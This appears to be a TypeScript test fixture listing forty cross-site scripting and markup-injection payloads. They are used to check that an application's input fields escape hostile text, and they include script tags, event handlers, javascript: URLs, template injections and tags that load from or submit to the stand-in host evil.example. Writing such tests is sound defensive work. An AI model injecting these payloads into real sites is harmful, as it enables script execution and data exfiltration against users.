/** An address that nothing of ours ever asks for. */
export const FOREIGN = 'https://evil.example';

// What somebody could write who wants the desk's browser to work for him: text, attributes, addresses,
// styles, scripts, half tags, other alphabets of markup, what templates and CSV would read. Each shows
// itself: by a dialog, by asking FOREIGN for something, or by `window.hit`.
const written = [
	'<script>alert(1)</script>',
	`<script src="${FOREIGN}/1.js"></script>`,
	'"><script>window.hit=3</script>',
	"';alert(4)//",
	'</script><script>alert(5)</script>',
	'<img src=x onerror=alert(6)>',
	`<img src="${FOREIGN}/7.png">`,
	'"><img src=x onerror="window.hit=8">',
	'<svg onload=alert(9)>',
	'<svg><script>alert(10)</script></svg>',
	'<svg><animate onbegin=alert(11) attributeName=x dur=1s>',
	`<iframe src="${FOREIGN}/12"></iframe>`,
	'<iframe srcdoc="<script>parent.alert(13)</script>"></iframe>',
	'<iframe src="javascript:parent.hit=14"></iframe>',
	'<a href="javascript:alert(15)">press</a>',
	`<a href="${FOREIGN}/16" ping="${FOREIGN}/ping">press</a>`,
	`<form action="${FOREIGN}/17"><button>Save</button></form>`,
	`<button formaction="${FOREIGN}/18" autofocus>Save</button>`,
	'<input autofocus onfocus=alert(19)>',
	'<details open ontoggle=alert(20)>',
	'<body onpageshow=alert(21)>',
	'<video><source onerror=alert(22)></video>',
	`<video poster="${FOREIGN}/23.png" autoplay></video>`,
	`<link rel=stylesheet href="${FOREIGN}/24.css">`,
	`<style>@import "${FOREIGN}/25.css";</style>`,
	`<style>body{background:url(${FOREIGN}/26.png)}</style>`,
	`<p style="background:url(${FOREIGN}/27.png)">`,
	`<base href="${FOREIGN}/28/">`,
	`<meta http-equiv=refresh content="0;url=${FOREIGN}/29">`,
	`<object data="${FOREIGN}/30"></object>`,
	`<embed src="${FOREIGN}/31">`,
	'</textarea><script>alert(32)</script>',
	'</title><script>alert(33)</script>',
	'--><script>alert(34)</script><!--',
	'<![CDATA[<script>alert(35)</script>]]>',
	'<math><mi xlink:href="javascript:alert(36)">press</mi></math>',
	'&lt;script&gt;alert(37)&lt;/script&gt;',
	'{{constructor.constructor("alert(38)")()}} ${alert(38)} {@html "<b>"}',
	'<ScRiPt/x>alert`39`</sCrIpT >',
	'\\u003cscript\\u003ealert(40)\\u003c/script\\u003e'
];

/** Forty, each as it was written. */
export const payloads: readonly string[] = written;

/** The same as long as a reason has to be. */
export const asReason = (payload: string) => `${payload} and some more words`;

/** All of them, in as few texts as fit into a field of so many letters. */
export function bundles(most: number): string[] {
	const made: string[] = [];
	for (const payload of payloads) {
		const longer = made.length > 0 ? `${made.at(-1)} ${payload}` : payload;
		if (made.length > 0 && longer.length <= most) made[made.length - 1] = longer;
		else made.push(payload);
	}
	return made;
}

/** All of them, in both orders, and longer than any field of ours takes: a form gives it back. */
export const tooMuch = [...payloads, ...payloads.toReversed(), ...payloads].join(' ');
